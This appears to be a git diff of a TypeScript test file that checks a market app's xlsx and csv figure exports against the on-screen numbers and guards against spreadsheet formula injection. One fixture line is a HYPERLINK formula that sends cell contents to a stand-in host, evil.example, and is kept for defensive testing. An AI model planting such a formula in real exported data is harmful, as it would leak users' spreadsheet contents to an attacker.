@@ -1,4 +1,6 @@
 import { accountId, type Account } from '$lib/domain/accounts/account';
+import { MARKET_TABLES, PRODUCER_TABLES, type FigureTable } from '$lib/domain/figures/figures';
+import type { Money, Tally } from '$lib/domain/figures/sales';
 import { formatPhone } from '$lib/domain/ordering/phone';
 import { sql } from 'drizzle-orm';
 import { unzipSync } from 'fflate';
@@ -9,7 +11,9 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { Stall } from '../../tests/fixtures/stall';
 import { listChanges } from '../audit/list-changes';
 import type { Context } from '../context';
+import { getMarketFigures, getProducerFigures } from '../figures/read-figures';
 import { createSession } from '../market/sessions';
+import { rearm } from '../spreadsheet/formula';
 import { answerExport } from './answer-export';
 
 const FORMULA = '=HYPERLINK("http://evil.example?x="&A1,"Bấm")';
@@ -371,6 +375,82 @@ describe('each table of figures', () => {
 		},
 	);
 });
+
+describe('what is taken home is what the screen shows', () => {
+	beforeAll(async () => {
+		const { sql } = stall.db;
+		const { id } = await stall.place(await stall.order());
+		await sql`update orders set state = 'cancelled' where id = ${id}`;
+	});
+
+	const period = { from: '2026-11-20', until: '2026-11-20' } as const;
+	const figuresOf = {
+		'producer-figures': () =>
+			getProducerFigures(stall.db.database, { producerId: stall.producer, period }),
+		'market-figures': () => getMarketFigures(stall.db.database, period),
+	};
+	const wanted = [
+		...PRODUCER_TABLES.map((table) => ['producer-figures', table] as const),
+		...MARKET_TABLES.map((table) => ['market-figures', table] as const),
+	];
+
+	/** The numbers of each row, as the screen has them. */
+	function numbersOf(row: object, table: FigureTable): readonly number[] {
+		if (table !== 'money') {
+			const { orders, valueDong } = row as Tally;
+			return [orders, valueDong];
+		}
+		const { expected, received, owedBack } = row as Money;
+		return [expected, received, owedBack].flatMap(({ orders, valueDong }) => [orders, valueDong]);
+	}
+
+	it.each(wanted)('%s: %s', async (what, table) => {
+		const figures: Partial<Record<FigureTable, readonly object[]>> = await figuresOf[what]();
+		const shown = (figures[table] ?? []).map((row) => numbersOf(row, table));
+		// Nothing to compare would agree with everything.
+		expect(shown).not.toEqual([]);
+		const account = what === 'market-figures' ? person(['host']) : PEOPLE()['owner'];
+		const answer = async (format: string) =>
+			bytesOf(
+				await ask(
+					account ?? null,
+					what,
+					`producer=${stall.producer}&table=${table}&format=${format}&${PERIOD}`,
+				),
+			);
+		const [headings, ...book] = (await readXlsxFile(await answer('xlsx')))[0]?.data ?? [];
+		const at = (headings ?? []).flatMap((heading, index) =>
+			/Số đơn|: số đơn|\(đồng\)/.test(String(heading)) ? [index] : [],
+		);
+		expect(book.map((row) => at.map((index) => row[index]))).toEqual(shown);
+
+		const parsed = parseCsv((await answer('csv')).toString());
+		expect(parsed[0]).toEqual(headings);
+		expect(parsed.slice(1).map((row) => at.map((index) => Number(row[index])))).toEqual(shown);
+		for (const cell of parsed.flat()) expect(cell).not.toMatch(/^[=+@\t\r-]/);
+		// What is a text in the workbook is the same text in the CSV, but for the sign that says so.
+		const texts = (rows: readonly (readonly unknown[])[]) =>
+			rows.map((row) => row.map((cell) => (typeof cell === 'string' ? cell : null)));
+		expect(
+			texts(book).map((row, y) =>
+				row.map((cell, x) => cell === null || rearm(parsed[y + 1]?.[x] ?? '') === cell),
+			),
+		).toEqual(texts(book).map((row) => row.map(() => true)));
+	});
+});
+
+/** Rows of a CSV with semicolons, read by no code of ours. */
+function parseCsv(text: string): string[][] {
+	const rows: string[][] = [[]];
+	for (const [, quoted, plain = '', end = ''] of text
+		.replace('\uFEFF', '')
+		.matchAll(/(?:"((?:[^"]|"")*)"|([^;\r\n"]*))(;|\r\n|$)/g)) {
+		rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain);
+		if (end === '\r\n') rows.push([]);
+		if (end === '') break;
+	}
+	return rows.filter((row) => row.join('') !== '');
+}
 
 const inCsv = (value: string | number | null) =>
 	value === FORMULA
